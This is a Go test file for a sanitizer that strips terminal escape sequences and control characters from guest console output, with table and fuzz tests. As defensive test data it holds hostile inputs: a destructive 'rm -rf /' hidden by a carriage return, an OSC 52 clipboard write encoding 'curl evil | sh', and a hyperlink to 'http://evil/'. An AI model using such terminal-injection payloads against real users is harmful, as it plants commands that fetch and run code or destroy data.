package main

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

func sanitize(in string) string {
	var b bytes.Buffer
	t := newTermSafe(&b)
	_, _ = t.Write([]byte(in))
	_ = t.Flush()
	return b.String()
}

func TestTermSafe(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"plain text and utf-8", "héllo 日本 🙂\tok\n", "héllo 日本 🙂\tok\n"},
		{"serial line endings", "login: \r\nroot\r\n", "login: \nroot\n"},
		{"lone cr cannot hide text", "rm -rf /\r# harmless\n", "rm -rf /\n# harmless\n"},
		{"sgr colours", "\x1b[1;31mred\x1b[0m\n", "red\n"},
		{"cursor and erase", "a\x1b[2J\x1b[H\x1b[?25lb\x1b[K\n", "ab\n"},
		{"window title, BEL", "\x1b]0;pwned\x07x\n", "x\n"},
		{"window title, ST", "\x1b]2;pwned\x1b\\x\n", "x\n"},
		{"clipboard write (OSC 52)", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07x\n", "x\n"},
		{"hyperlink", "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\\n", "click\n"},
		{"DCS query", "\x1bP$q\"p\x1b\\x\n", "x\n"},
		{"APC, PM, SOS", "\x1b_a\x1b\\\x1b^b\x1b\\\x1bXc\x1b\\x\n", "x\n"},
		{"two-byte escapes", "\x1bc\x1b7\x1b8\x1b(Bx\n", "x\n"},
		{"C1 CSI in UTF-8", "\u009b31mx\n", "x\n"},
		{"C1 OSC in UTF-8", "\u009d0;pwned\u009cx\n", "x\n"},
		{"raw 8-bit CSI byte", "\x9b31mx\n", "\uFFFD31mx\n"},
		{"other controls", "a\x00b\x07c\x7fd\x08e\n", "a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\n"},
		{"invalid utf-8", "a\xff\xfeb\n", "a\uFFFD\uFFFDb\n"},
		{"bidi override", "abc\u202edcba\u202c\n", "abcdcba\n"},
		{"CAN aborts", "\x1b[31\x18x\n", "x\n"},
		{"unterminated OSC is bounded", "\x1b]0;" + strings.Repeat("t", maxSequence-1) + "visible\n", "visible\n"},
		{"truncated utf-8 at the end", "a\xe6\x97", "a\uFFFD"},
		{"cr at the end", "a\r", "a\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := sanitize(tt.in); got != tt.want {
				t.Errorf("sanitize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// checkSafe fails unless out is what a terminal shows as plain text.
func checkSafe(t *testing.T, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("output is not valid UTF-8: %q", out)
	}
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			t.Fatalf("control %U in output %q", r, out)
		}
	}
}

// FuzzTermSafe: whatever a guest prints, the output is valid UTF-8 with no
// control character but \n and \t (so no ESC and no C1), and splitting the
// input into chunks, as a followed log does, changes nothing.
func FuzzTermSafe(f *testing.F) {
	f.Add([]byte("\x1b]52;c;Zm9v\x07login: \r\n\u009b2J\xe6\x97\xa5"), uint8(3))
	f.Add([]byte("Linux version 6.1.0-28-cloud-amd64\r\n\x1b[0;32m  OK  \x1b[0m] Started\r\n"), uint8(1))
	f.Fuzz(func(t *testing.T, in []byte, chunk uint8) {
		whole := sanitize(string(in))
		checkSafe(t, whole)
		if chunk == 0 {
			return
		}
		var b bytes.Buffer
		ts := newTermSafe(&b)
		for p := in; len(p) > 0; {
			n := min(int(chunk), len(p))
			if _, err := ts.Write(p[:n]); err != nil {
				t.Fatal(err)
			}
			p = p[n:]
		}
		_ = ts.Flush()
		if b.String() != whole {
			t.Fatalf("chunks of %d give %q, whole gives %q", chunk, b.String(), whole)
		}
	})
}
